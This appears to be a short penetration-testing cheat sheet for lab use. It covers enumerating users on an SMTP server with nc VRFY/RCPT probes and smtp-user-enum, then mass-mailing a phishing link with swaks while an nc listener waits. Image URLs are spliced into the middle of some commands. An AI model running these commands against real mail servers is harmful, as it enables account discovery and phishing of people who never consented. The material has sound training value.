SMTP is a mail protocol, which is used to enumerate users and send phising maills to the existing user

User Enumeration


nc 25
<banner> # check for vulnerability with banner
HELO # start the connection
ELHO all
VRFY root # verify root user
mail from: dn@oscp # attacker mail
rcpt to: root@localhost # verify user with recipient


 smtp-user-enum -M RCPT -U /usr/share/seclists/Usernames/top-usernames-shortlist.txt -t $ipPhishing Mails

  • Send automated phisinglinks to a bunch of users

  • PREREQUISITE: Users emails

# listen on the port
nc -lvnp 1234

# send mail to all the userswith swaks
swaks --to $(cat files/mailuers.txt | tr '\n' ',' | less) --from dnoscp@oscp.htb --header "Subject: test" --body "please click here"--server $ip


Last updated